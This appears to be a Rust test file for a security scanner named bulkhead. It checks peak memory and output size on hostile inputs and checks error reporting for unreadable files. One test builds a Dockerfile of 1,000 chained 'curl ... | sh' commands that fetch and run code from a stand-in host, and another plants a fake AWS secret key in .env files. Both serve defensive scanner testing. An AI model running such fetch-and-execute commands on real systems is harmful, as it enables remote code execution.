//! Hostile inputs that once cost gigabytes, built programmatically, run under
//! GNU time for the peak RSS: each must stay under its bound with its output
//! bounded too. (The hostile-input issue, item 4: every finding copied its
//! whole source line as the snippet — a 52 KB one-line List of 400 pods took
//! 800 MB and wrote 300 MB.)
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

mod common;
use std::process::Command;

/// (exit code, peak RSS in MB, stdout) of bulkhead `args` under /usr/bin/time;
/// `None` (a loud skip) when GNU time is missing and cannot be installed.
fn measured(args: &[&str]) -> Option<(i32, u64, Vec<u8>)> {
    if !std::path::Path::new("/usr/bin/time").is_file() {
        common::apt_install("time");
    }
    if !std::path::Path::new("/usr/bin/time").is_file() {
        assert!(
            std::env::var_os("BULKHEAD_REQUIRE_IMAGES").is_none(),
            "GNU time missing and BULKHEAD_REQUIRE_IMAGES is set"
        );
        eprintln!("\n\n*** SKIPPED: GNU time (/usr/bin/time) not installed ***\n");
        return None;
    }
    let d = tempfile::tempdir().unwrap();
    let rss = d.path().join("rss");
    let o = Command::new("/usr/bin/time")
        .arg("-f")
        .arg("%M")
        .arg("-o")
        .arg(&rss)
        .arg(env!("CARGO_BIN_EXE_bulkhead"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let kb: u64 = std::fs::read_to_string(&rss)
        .unwrap()
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .expect("GNU time's %M");
    Some((o.status.code().unwrap_or(-1), kb / 1024, o.stdout))
}

fn one_line_list(pods: usize) -> String {
    let items: Vec<String> = (0..pods)
        .map(|i| {
            format!(
                r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"p{i}","namespace":"x"}},"spec":{{"containers":[{{"name":"c","image":"a/b:1"}}]}}}}"#
            )
        })
        .collect();
    format!(
        r#"{{"apiVersion":"v1","kind":"List","items":[{}]}}"#,
        items.join(",")
    )
}

#[test]
fn a_one_line_list_of_1000_pods_stays_small() {
    let d = tempfile::tempdir().unwrap();
    let f = d.path().join("list.json");
    std::fs::write(&f, one_line_list(1000)).unwrap();
    let Some((code, mb, out)) =
        measured(&["k8s", f.to_str().unwrap(), "--no-config", "-f", "json"])
    else {
        return;
    };
    assert_eq!(code, 1);
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let findings = v["findings"].as_array().unwrap();
    assert!(findings.len() > 10_000, "{} findings", findings.len());
    for x in findings {
        let s = x["location"]["snippet"].as_str().unwrap_or("");
        assert!(
            s.chars().count() <= 202,
            "a snippet of {} chars",
            s.chars().count()
        );
    }
    assert!(out.len() < 20_000_000, "{} bytes of JSON", out.len());
    assert!(mb < 200, "peak RSS {mb} MB");
    eprintln!(
        "figure: 1,000-pod one-line List: peak {mb} MB, {} bytes of JSON",
        out.len()
    );
}

#[test]
fn a_one_line_run_of_1000_pipes_to_shell_stays_small() {
    let d = tempfile::tempdir().unwrap();
    let f = d.path().join("Dockerfile");
    let cmds: Vec<String> = (0..1000)
        .map(|i| format!("curl -s https://x.example/{i} | sh"))
        .collect();
    std::fs::write(&f, format!("FROM alpine:3.20\nRUN {}\n", cmds.join(" && "))).unwrap();
    let Some((code, mb, out)) = measured(&[
        "dockerfile",
        f.to_str().unwrap(),
        "--no-config",
        "-f",
        "json",
    ]) else {
        return;
    };
    assert_eq!(code, 1);
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    for x in v["findings"].as_array().unwrap() {
        let s = x["location"]["snippet"].as_str().unwrap_or("");
        assert!(
            s.chars().count() <= 202,
            "a snippet of {} chars",
            s.chars().count()
        );
    }
    assert!(out.len() < 5_000_000, "{} bytes of JSON", out.len());
    assert!(mb < 200, "peak RSS {mb} MB");
}

/// `fs` as a user who cannot read part of the tree (hostile-input issue,
/// item 13: "no findings", exit 0, and nothing named): each unreadable file
/// and directory is an input error naming it, exit 2. Runs the binary as
/// `nobody` with runuser, so it needs root (a loud skip otherwise).
#[test]
fn unreadable_parts_of_a_directory_are_errors_not_a_clean_scan() {
    use std::os::unix::fs::PermissionsExt;
    let root_user = Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout == b"0\n");
    if !root_user || !std::path::Path::new("/usr/sbin/runuser").exists() {
        assert!(
            std::env::var_os("BULKHEAD_REQUIRE_IMAGES").is_none(),
            "runuser or root missing and BULKHEAD_REQUIRE_IMAGES is set"
        );
        eprintln!("\n\n*** SKIPPED: needs root and runuser to run bulkhead as another user ***\n");
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let app = d.path().join("app");
    std::fs::create_dir_all(app.join("secret")).unwrap();
    let key = "AWS_SECRET_ACCESS_KEY=abcdEFGHijklMNOPqrstUVWXyz0123456789ABCD\n";
    std::fs::write(app.join(".env"), key).unwrap();
    std::fs::write(app.join("secret/x.env"), key).unwrap();
    std::fs::write(app.join("readable.txt"), "hello\n").unwrap();
    for (p, mode) in [
        (d.path().to_path_buf(), 0o755),
        (app.clone(), 0o755),
        (app.join(".env"), 0o000),
        (app.join("secret"), 0o000),
    ] {
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let o = Command::new("/usr/sbin/runuser")
        .args(["-u", "nobody", "--"])
        .arg(env!("CARGO_BIN_EXE_bulkhead"))
        .args([
            "fs",
            d.path().to_str().unwrap(),
            "--no-config",
            "-f",
            "json",
        ])
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    // Let the temp dir be removed.
    std::fs::set_permissions(app.join("secret"), std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let errors: Vec<String> = v["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.to_string())
        .collect();
    assert!(
        errors
            .iter()
            .any(|e| e.contains("app/.env") && e.contains("permission denied")),
        "{errors:?}"
    );
    assert!(
        errors
            .iter()
            .any(|e| e.contains("app/secret") && e.contains("directory not read")),
        "{errors:?}"
    );
}
